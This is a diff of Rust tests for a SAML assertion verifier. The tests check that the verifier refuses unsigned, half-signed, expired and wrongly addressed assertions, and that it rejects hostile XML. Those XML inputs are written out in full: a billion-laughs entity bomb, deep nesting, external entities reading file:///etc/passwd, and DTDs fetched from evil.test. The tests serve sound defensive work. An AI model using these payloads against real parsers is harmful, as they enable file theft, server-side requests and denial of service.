@@ -41,7 +41,7 @@ fn an_answer_may_be_spelled_otherwise_than_it_was_signed() {
 }
 
 #[test]
-fn an_unsigned_assertion_is_refused() {
+fn unsigned_assertion_is_refused() {
     let idp = Idp::new();
     let facts = Facts::usual(&idp);
     let refused = idp.believed(&idp.response(&facts, &idp.assertion(&facts))).unwrap_err();
@@ -49,7 +49,7 @@ fn an_unsigned_assertion_is_refused() {
 }
 
 #[test]
-fn a_half_signed_answer_is_refused() {
+fn half_signed_answer_is_refused() {
     let idp = Idp::new();
     let facts = Facts::usual(&idp);
     let signed = idp.sign(&idp.assertion(&facts));
@@ -96,7 +96,7 @@ fn sha1_is_refused() {
 }
 
 #[test]
-fn a_comment_does_not_truncate_the_name() {
+fn comment_truncation_in_the_name_id_leaves_the_whole_name() {
     let idp = Idp::new();
     let mut facts = Facts::usual(&idp);
     facts.name = "admin@acme.test.evil.test".into();
@@ -106,7 +106,7 @@ fn a_comment_does_not_truncate_the_name() {
 }
 
 #[test]
-fn an_expired_answer_is_refused_and_clocks_may_differ_a_little() {
+fn expired_answer_is_refused_and_clocks_may_differ_a_little() {
     let now = Utc::now();
     assert_eq!(changed(|facts| facts.until = now - TimeDelta::seconds(200)).unwrap_err(), "The assertion has expired");
     assert!(changed(|facts| facts.until = now - TimeDelta::seconds(30)).is_ok());
@@ -118,10 +118,16 @@ fn an_expired_answer_is_refused_and_clocks_may_differ_a_little() {
 }
 
 #[test]
+fn wrong_audience_an_assertion_for_another_service_is_refused() {
+    for other in ["https://other.test/", "", "https://gateway.test/metadata/", "https://gateway.test"] {
+        let refused = changed(|facts| facts.audience = other.to_owned()).unwrap_err();
+        assert_eq!(refused, "The assertion was meant for another audience", "{other}");
+    }
+}
+
+#[test]
 fn an_answer_for_somebody_else_is_refused() {
     let other = || "https://other.test/".to_owned();
-    let audience = changed(|facts| facts.audience = other()).unwrap_err();
-    assert_eq!(audience, "The assertion was meant for another audience");
     let address = changed(|facts| facts.consumer_url = other()).unwrap_err();
     assert_eq!(address, "The response was meant for another address");
     let request = changed(|facts| facts.request_id = "_other".into()).unwrap_err();
@@ -182,19 +188,42 @@ fn a_failed_login_is_no_login() {
     assert_eq!(idp.believed(&xml).unwrap_err(), "The identity provider did not sign anybody in");
 }
 
-#[test]
-fn bombs_and_external_entities_are_refused() {
+/// Why an answer is refused in which this stands before the root, and the entity `x` in the place of the address.
+fn refusal_with_head(head: &str) -> String {
     let idp = Idp::new();
     let answer = idp.answer(&Facts::usual(&idp));
-    let bomb: String = (1..20).map(|n| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10))).collect();
-    for head in [
-        format!("<!DOCTYPE r [<!ENTITY e0 \"lol\">{bomb}]>"),
-        "<!DOCTYPE r [<!ENTITY e19 SYSTEM \"file:///etc/passwd\">]>".to_owned(),
-        "<!DOCTYPE r SYSTEM \"http://evil.test/dtd\">".to_owned(),
-    ] {
-        let xml = format!("{head}{}", answer.replace("ada@acme.test", "&e19;"));
-        assert!(idp.believed(&xml).unwrap_err().contains("document type or entities"), "{head}");
+    idp.believed(&format!("{head}{}", answer.replace("ada@acme.test", "&x;"))).unwrap_err()
+}
+
+#[test]
+fn xml_bomb_of_entities_is_refused_before_one_is_read() {
+    let steps = (1..20).map(|n| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10)));
+    let laughs = format!("<!DOCTYPE r [<!ENTITY e0 \"lol\">{}<!ENTITY x \"&e19;\">]>", steps.collect::<String>());
+    let blowup = format!("<!DOCTYPE r [<!ENTITY x \"{}\">]>", "x".repeat(100_000));
+    for head in [laughs, blowup] {
+        let refused = refusal_with_head(&head);
+        assert!(refused.contains("document type or entities"), "{refused}");
     }
+}
+
+#[test]
+fn xml_bomb_of_depth_is_refused() {
     let deep = format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
-    assert!(idp.believed(&deep).unwrap_err().contains("nested too deeply"));
+    assert!(Idp::new().believed(&deep).unwrap_err().contains("nested too deeply"));
+}
+
+#[test]
+fn external_entities_are_refused_and_never_fetched() {
+    for head in [
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
+        "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//X\" \"http://evil.test/x\">]>",
+        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.test/p\"> %p;]>",
+        "<!DOCTYPE r SYSTEM \"http://evil.test/dtd\">",
+        "<!doctype r SYSTEM \"http://evil.test/dtd\">",
+    ] {
+        let refused = refusal_with_head(head);
+        assert!(refused.contains("is no XML that is taken"), "{head}: {refused}");
+    }
+    // An entity that nobody declared is none of the five either.
+    assert!(refusal_with_head("").contains("is no XML that is taken"));
 }
